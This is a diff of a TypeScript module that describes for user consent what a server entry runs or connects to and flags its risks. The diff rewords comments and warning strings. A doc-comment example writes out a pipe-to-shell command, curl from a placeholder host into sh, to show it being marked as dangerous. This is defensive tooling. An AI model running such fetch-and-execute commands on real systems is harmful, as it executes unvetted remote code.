@@ -1,4 +1,4 @@
-/** Words for consent: exactly what would be run or called, nothing shortened, and what to look out for. */
+/** Describes for consent what a server entry runs or calls, unabridged, with its risks. */
 import { parseServerEntry } from "../config/parse-servers.js";
 import { SecretRecord } from "../config/secret-record.js";
 import type { DockerConfig, HeaderSource, ServerConfig, StdioConfig } from "../config/server-config.js";
@@ -14,25 +14,25 @@ import {
 } from "./entry-risks.js";
 
 export interface CommandDescription {
-  /** The whole command line as one would type it, or the address. Safe to print. */
+  /** The full command line, or the URL. Safe to print. */
   readonly command: string;
-  /** It starts a process on this machine. */
+  /** The server is started as a process on this machine. */
   readonly startsProcess: boolean;
   readonly risks: readonly CommandRisk[];
-  /** Everything in lines, for a prompt. Safe to print. */
+  /** The description in lines, for a prompt. Safe to print. */
   readonly text: string;
 }
 
 /**
- * Describes what connecting to a server would do. Arguments are shown in full, since they decide what happens; values
- * of variables and headers are not, except of variables that decide what is run or whom it talks to.
+ * Describes what connecting to a server would do. Arguments are shown in full, because they determine what happens. Values
+ * of variables and headers are hidden, except of variables that affect which code runs or where traffic goes.
  *
  * @example
  * ```ts
  * const { text } = describeCommand({ command: "sh", args: ["-c", "curl https://example.com/x | sh"] });
  * console.error(text);
  * // runs      sh -c 'curl https://example.com/x | sh'
- * // DANGER    pipes text into a program that runs it
+ * // DANGER    pipes text into a program that executes it
  * // …
  * ```
  */
@@ -43,7 +43,7 @@ export function describeCommand(entry: ServerEntry): CommandDescription {
   return { command, startsProcess, risks: warnings, text: [...lines, ...riskRows(warnings)].join("\n") };
 }
 
-/** What can do harm at once comes first. */
+/** Dangers first. */
 export const sortRisks = (risks: readonly CommandRisk[]): CommandRisk[] =>
   [...risks].sort((a, b) => a.level.localeCompare(b.level));
 
@@ -57,7 +57,7 @@ interface Described {
   readonly startsProcess: boolean;
 }
 
-/** A line of a description: what it is about, and the text. */
+/** A line of a description: label and text. */
 const row = (label: string, text: string): string => `${label.padEnd(9)} ${text}`;
 
 function describe(config: ServerConfig): Described {
@@ -86,19 +86,19 @@ function describe(config: ServerConfig): Described {
   }
 }
 
-/** What is unwise or suspicious about an address. */
+/** The risks of a URL. */
 export function addressRisks(config: { readonly url: string }): CommandRisk[] {
   const risks = addressWarnings(config).map((message): CommandRisk => ({ level: "danger", message }));
   const host = new URL(config.url).hostname;
   if (host.split(".").some((label) => label.startsWith("xn--"))) {
-    risks.push({ level: "danger", message: "has a host whose name may only look like the one you know" });
+    risks.push({ level: "danger", message: "has a host name that may imitate another one" });
   }
   return risks;
 }
 
-/** An entry that chooses the way to its server. The proxy sees plain requests whole, and the host names of all others. */
+/** The risks of a proxy in the entry: it sees unencrypted requests, and the host names of all others. */
 export function proxyRisks(proxy: unknown): CommandRisk[] {
-  if (proxy === false) return [{ level: "note", message: "does not use the proxy of this machine" }];
+  if (proxy === false) return [{ level: "note", message: "bypasses the proxy of this machine" }];
   if (typeof proxy !== "string" || proxy === "env") return [];
   const { host = "named by a variable" } = URL.canParse(proxy) ? new URL(proxy) : {};
   return [{ level: "danger", message: `sends its requests through the proxy ${visible(host)}` }];
@@ -119,12 +119,12 @@ function describeProcess(words: readonly string[], config: StdioConfig | DockerC
   }
   const risks = [...commandRisks(words), ...variableRisks(env.names.map(visible))];
   if (config.kind === "stdio" && config.inheritEnv) {
-    risks.push({ level: "danger", message: "gets all variables of this program, keys among them" });
+    risks.push({ level: "danger", message: "inherits all environment variables, including secrets" });
   }
   return { command, lines, risks, startsProcess: true };
 }
 
-/** The command line of the engine, as the transport puts it together. */
+/** The command line of the container engine, as the transport builds it. */
 function dockerWords({ engine, dockerHost, env, mounts, runArgs, image, args }: DockerConfig): string[] {
   return [
     engine,
@@ -139,13 +139,13 @@ function dockerWords({ engine, dockerHost, env, mounts, runArgs, image, args }: 
 }
 
 const namesOf = (headers: HeaderSource): string[] =>
-  headers instanceof SecretRecord ? headers.names : ["(headers made by a function)"];
+  headers instanceof SecretRecord ? headers.names : ["(headers from a function)"];
 
-/** What cannot be seen is spelled out; nothing of it may reach a terminal. */
+/** Escapes invisible characters, so that none reaches a terminal. */
 export const visible = (text: string): string =>
   text.replace(HIDDEN, (character) => `\\u{${character.codePointAt(0)!.toString(16)}}`);
 
-/** As a shell would need it, so that one sees where a word ends. */
+/** Quotes a word as for a shell, so that its end is visible. */
 function quote(word: string): string {
   const shown = visible(word);
   return /^[\w@%+=:,./\\-]+$/.test(shown) ? shown : `'${shown.replaceAll("'", "'\\''")}'`;
